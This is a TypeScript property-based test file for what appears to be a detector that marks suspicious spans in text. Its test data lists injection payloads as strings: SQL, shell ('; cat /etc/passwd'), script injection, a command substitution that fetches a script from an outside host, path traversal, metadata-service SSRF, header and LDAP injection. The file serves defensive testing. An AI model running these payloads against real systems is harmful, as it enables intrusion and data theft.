import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { Automaton } from './automaton.ts';
import { LITERALS } from './literals.ts';
import { Windows } from './windows.ts';

const windows = new Windows(new Automaton(LITERALS));

function read(text: string): { start: number; end: number }[] {
  windows.find(
    Uint16Array.from({ length: text.length + 4 }, (_, i) => text.charCodeAt(i) || 0),
    text.length,
  );
  return Array.from({ length: windows.count }, (_, i) => ({
    start: windows.starts[i] ?? 0,
    end: windows.ends[i] ?? 0,
  }));
}

const CALM = 'We had a lovely day at the sea and the weather was fine. ';
const ATTACKS = [
  "' or 8=8 -- ",
  '-3 union select login, secret from members#',
  '; cat /etc/passwd',
  '<img src=q onerror=alert(7)>',
  '$(curl http://203.0.113.9/p.sh)',
  '../../../../etc/passwd',
  '{{7*7}}',
  'http://169.254.169.254/latest/meta-data/',
  'en\r\nSet-Cookie: admin=1',
  '*)(uid=*))(|(uid=*',
];

test('prose has no window, and the prose around an attack is in none of its own', () => {
  assert.deepEqual(read(CALM.repeat(40)), []);
  for (const attack of ATTACKS) {
    const found = read(`${CALM.repeat(20)}${attack} ${CALM.repeat(20)}`);
    assert.ok(found.length > 0, attack);
    for (const { start, end } of found) assert.ok(end - start <= attack.length + 64, `${attack}: ${end - start}`);
  }
});

test('an attack stands in a window whatever stands before it', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...ATTACKS),
      fc.array(fc.constantFrom(CALM, "it's ", '"a":"b", ', '; ', '(x) ', '<b>', ' '.repeat(40), 'A'.repeat(90)), {
        maxLength: 60,
      }),
      (attack, before) => {
        const noise = before.join('');
        const middle = noise.length + Math.floor(attack.length / 2);
        assert.ok(read(`${noise}${attack} ${CALM}`).some(({ start, end }) => start <= middle && middle < end));
      },
    ),
    { numRuns: 300 },
  );
});

test('all windows together are no longer than four times the text', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom("'", '"', '<', '(', ' or ', 'select ', CALM, ' ', '\n', 'x', '=', ';', '../'), {
        maxLength: 600,
      }),
      (parts) => {
        const text = parts.join('');
        const sum = read(text).reduce((all, { start, end }) => all + end - start, 0);
        assert.ok(sum <= 4 * text.length, `${sum} of ${text.length}`);
      },
    ),
    { numRuns: 300 },
  );
});

test('short text is read as a whole', () => {
  for (const text of ['', "O'Brien", CALM]) assert.deepEqual(read(text)[0], { start: 0, end: text.length });
});
